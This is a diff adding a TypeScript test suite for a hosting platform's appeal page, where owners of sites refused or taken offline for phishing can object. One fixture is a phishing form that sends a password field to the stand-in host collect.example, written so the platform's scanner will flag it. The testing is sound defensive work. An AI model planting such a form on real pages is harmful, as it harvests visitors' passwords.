@@ -1,0 +1,251 @@
+/** The page of an appeal, through the front door and in a real browser on a phone. */
+import assert from 'node:assert/strict'
+import { after, describe, test } from 'node:test'
+import axe from 'axe-core'
+import { openBrowser } from '../../../test/ground/browser.ts'
+import { openTestHouse } from '../../../test/ground/house.ts'
+import { openMailServer } from '../../../test/ground/mail-server.ts'
+import { newVisitor } from '../../../test/ground/portal.ts'
+import { filesOf, newSiteOwner, newSlug } from '../../../test/ground/site-owner.ts'
+import { decide, listReviews, takeOffline } from '../../areas/sites/moderation.ts'
+import { limits } from '../../contract/limits.ts'
+
+const mail = await openMailServer()
+const ground = await openTestHouse({
+  settings: {
+    HOMEPORT_MAIL: 'smtp',
+    HOMEPORT_MAIL_URL: `smtp://127.0.0.1:${mail.port}?tls=off`,
+    HOMEPORT_MAIL_FROM: 'Homeport <homeport@home.example>',
+    HOMEPORT_OPERATOR_EMAIL: 'operator@home.example',
+  },
+})
+const { house } = ground
+
+const page = '<!doctype html><title>Bread</title>'
+const stealing = `${page}\n<form action="https://collect.example"><input type="password"></form>`
+
+async function refused() {
+  const owner = await newSiteOwner(ground)
+  const slug = newSlug()
+  const body = { slug, files: filesOf({ 'index.html': stealing }) }
+  const { appeal_url } = (await owner.call('POST /sites', body)).body
+  const visitor = newVisitor(ground)
+  return { ...owner, slug, visitor, path: new URL(appeal_url).pathname }
+}
+
+async function offline() {
+  const owner = await newSiteOwner(ground)
+  const { id, slug } = await owner.publish({ 'index.html': page })
+  await ownedByMail(owner.project_id)
+  const taken = await takeOffline(house, { id, reason: 'Phishing <b>was</b> reported.' })
+  assert.ok(taken)
+  return { ...owner, slug, visitor: newVisitor(ground), path: new URL(taken.appeal_url).pathname }
+}
+
+async function ownedByMail(project_id: string): Promise<void> {
+  const owner_email = `owner@${project_id}.example`
+  await house.db.transact((tx) =>
+    tx.updateTable('projects').set({ owner_email }).where('id', '=', project_id).execute(),
+  )
+}
+
+async function reviewOf(project_id: string): Promise<string> {
+  const all = await listReviews(house.db, { open: false, count: 100 })
+  const review = all.find((one) => one.project_id === project_id)
+  assert.ok(review)
+  return review.id
+}
+
+/** Mails so far to somebody, once there are so many. */
+async function mailsTo(address: string, count: number) {
+  const mails = () => mail.mails.filter(({ to }) => to.includes(address))
+  for (let wanted = 1; mails().length < count; wanted += 1) {
+    await mail.received(Math.max(wanted, mail.mails.length + 1))
+  }
+  return mails()
+}
+
+describe('the page of an appeal', () => {
+  test('says what was found, where, why, and what to do instead', async () => {
+    const { visitor, path, slug } = await refused()
+    const { status, text, headers } = await visitor.get(path)
+    assert.equal(status, 200)
+    for (const words of [
+      `${slug} was not published`,
+      'one thing was found',
+      '<code>index.html</code>, line 2',
+      'This form sends a password to collect.example.',
+      'is how passwords are stolen',
+      'Link to the other service&#39;s own sign-in page',
+    ]) {
+      assert.ok(text.replaceAll(/\s+/g, ' ').includes(words), words)
+    }
+    assert.match(headers.get('cache-control') ?? '', /no-store/)
+    assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'/)
+    assert.match(text, /name="robots" content="noindex"/)
+  })
+
+  test('says why a site was taken offline, in the words of the operator', async () => {
+    const { visitor, path, slug } = await offline()
+    const { text } = await visitor.get(path)
+    assert.ok(text.includes(`${slug} was taken offline`))
+    assert.ok(text.includes('Phishing &lt;b&gt;was&lt;/b&gt; reported.'))
+  })
+
+  test('takes what the owner says, and shows it from then on', async () => {
+    const { visitor, path } = await refused()
+    const sent = await visitor.post(path, { message: 'It is <mine>.\r\nReally.', email: '' })
+    assert.deepEqual([sent.status, sent.to], [303, path])
+    const { text } = await visitor.get(path)
+    assert.ok(text.includes('You objected on'))
+    assert.ok(text.includes('It is &lt;mine&gt;.\nReally.'))
+  })
+
+  test('takes it again in other words until it is decided, and not afterwards', async () => {
+    const { visitor, path, project_id } = await refused()
+    await visitor.post(path, { message: 'First words' })
+    await visitor.post(path, { message: 'Better words' })
+    const before = await visitor.get(path)
+    assert.ok(before.text.includes('Better words') && !before.text.includes('First words'))
+    const review_id = await reviewOf(project_id)
+    await decide(house, { review_id, decision: 'upheld', note: 'It <does>.' })
+    await visitor.post(path, { message: 'Last words' })
+    const { text } = await visitor.get(path)
+    assert.ok(text.includes('the decision stands') && text.includes('It &lt;does&gt;.'))
+    assert.equal(text.includes('Last words'), false)
+    assert.equal(text.includes('<form'), false)
+  })
+
+  test('says when it was allowed', async () => {
+    const { visitor, path, project_id } = await refused()
+    const review_id = await reviewOf(project_id)
+    await decide(house, { review_id, decision: 'allowed', note: null })
+    assert.match((await visitor.get(path)).text, /you were right\. Publish the site once more/)
+  })
+
+  test('names every fault of a form, and keeps what was filled in', async () => {
+    const { visitor, path } = await refused()
+    const { status, text } = await visitor.post(path, { message: ' ', email: 'no "address"' })
+    assert.equal(status, 422)
+    assert.match(text, /Please say why the decision is wrong/)
+    assert.match(text, /This is not an email address/)
+    assert.match(text, /value="no &quot;address&quot;"/)
+    const long = 'x'.repeat(limits.site_appeal_characters_max + 1)
+    const refusedLong = await visitor.post(path, { message: long })
+    assert.match(refusedLong.text, /at most 4000 characters/)
+    assert.equal((await visitor.get(path)).text.includes('You objected'), false)
+  })
+
+  test('is not there for made-up addresses', async () => {
+    const { visitor, path } = await refused()
+    for (const wrong of [
+      `${path}x`,
+      path.slice(0, -1),
+      '/portal/appeals/%00',
+      '/portal/appeals/a',
+    ]) {
+      const { status, text } = await visitor.get(wrong)
+      assert.equal(status, 404, wrong)
+      assert.match(text, /not complete|no such page/)
+      assert.equal((await visitor.post(wrong, { message: 'x' })).status, 404)
+    }
+  })
+
+  test('takes no form from another site', async () => {
+    const { visitor, path } = await refused()
+    const from = { origin: 'https://elsewhere.example', 'sec-fetch-site': 'cross-site' }
+    const { status } = await visitor.post(path, { message: 'x' }, from)
+    assert.equal(status, 403)
+    assert.equal((await visitor.get(path)).text.includes('You objected'), false)
+  })
+
+  test('takes so many from one address in an hour, and then says when to come back', async () => {
+    ground.passes('1 hour')
+    const { visitor, path } = await refused()
+    for (let time = 0; time < limits.site_appeals_per_hour_max; time += 1) {
+      await visitor.post(path, { message: `Again, ${time}` })
+    }
+    const { status, headers } = await visitor.post(path, { message: 'Once more' })
+    assert.equal(status, 429)
+    assert.ok(Number(headers.get('retry-after')) > 0)
+    ground.passes('1 hour')
+    assert.equal((await visitor.post(path, { message: 'Later' })).status, 303)
+  })
+})
+
+describe('mail', () => {
+  test('tells the operator of an appeal once, with what was found and what the owner says', async () => {
+    const { visitor, path, slug, project_id } = await refused()
+    const before = mail.mails.length
+    await visitor.post(path, { message: 'It is mine.\nReally.', email: 'jan@bakery.example' })
+    await visitor.post(path, { message: 'It is mine, I say.' })
+    const mails = await mail.received(before + 1)
+    const told = mails.slice(before)
+    assert.deepEqual(told[0]?.to, ['operator@home.example'])
+    assert.equal(told[0]?.headers['subject'], `Appeal about the site ${slug}`)
+    const review = await reviewOf(project_id)
+    assert.match(told[0]?.text ?? '', /- index\.html, line 2: This form sends a password/)
+    assert.match(told[0]?.text ?? '', /^> It is mine/m)
+    assert.ok(told[0]?.text.includes(`sites decide --review ${review} --allow`))
+  })
+
+  test('tells whoever objected of the decision, at the address they gave', async () => {
+    const { visitor, path, project_id } = await refused()
+    const email = `jan@${project_id}.example`
+    await visitor.post(path, { message: 'It is mine.', email })
+    const review_id = await reviewOf(project_id)
+    await decide(house, { review_id, decision: 'allowed', note: 'Sorry.' })
+    const [told] = await mailsTo(email, 1)
+    assert.match(
+      told?.text ?? '',
+      /You were right\.[\s\S]*Sorry\.[\s\S]*publish the site once more/,
+    )
+  })
+
+  test('tells the owner of a site taken offline why, and where to object', async () => {
+    const { path, project_id, slug } = await offline()
+    const [told] = await mailsTo(`owner@${project_id}.example`, 1)
+    assert.equal(told?.headers['subject'], `Your site ${slug} was taken offline`)
+    assert.match(told?.text ?? '', /The reason: Phishing/)
+    assert.ok(told?.text.replaceAll(/=\r?\n/g, '').includes(path))
+  })
+})
+
+const opened = await openBrowser()
+const missing = 'missing' in opened ? opened.missing : false
+
+describe('in a browser on a phone', { skip: missing }, () => {
+  if ('missing' in opened) return
+  after(() => opened.close())
+
+  test('can be read without moving it sideways, and used without a script', async () => {
+    ground.passes('1 hour')
+    const { path } = await refused()
+    const context = await opened.newContext({
+      viewport: { width: 360, height: 740 },
+      javaScriptEnabled: false,
+    })
+    const tab = await context.newPage()
+    await tab.goto(ground.url + path)
+    await tab.getByLabel('Why it is wrong').fill('It is our own sign-in page.')
+    await tab.getByRole('button', { name: 'Send' }).click()
+    await tab.getByText('You objected on').waitFor()
+    assert.equal(new URL(tab.url()).pathname, path)
+    await context.close()
+  })
+
+  test('has no fault that shuts somebody out', async () => {
+    const { path } = await refused()
+    const tab = await opened.newPage({ viewport: { width: 360, height: 740 }, bypassCSP: true })
+    await tab.goto(ground.url + path)
+    const width = await tab.evaluate('document.documentElement.scrollWidth')
+    assert.ok(Number(width) <= 360, String(width))
+    await tab.addScriptTag({ content: axe.source })
+    const found: any = await tab.evaluate('axe.run()')
+    assert.deepEqual(
+      found.violations.map(({ id }: { id: string }) => id),
+      [],
+    )
+    await tab.close()
+  })
+})
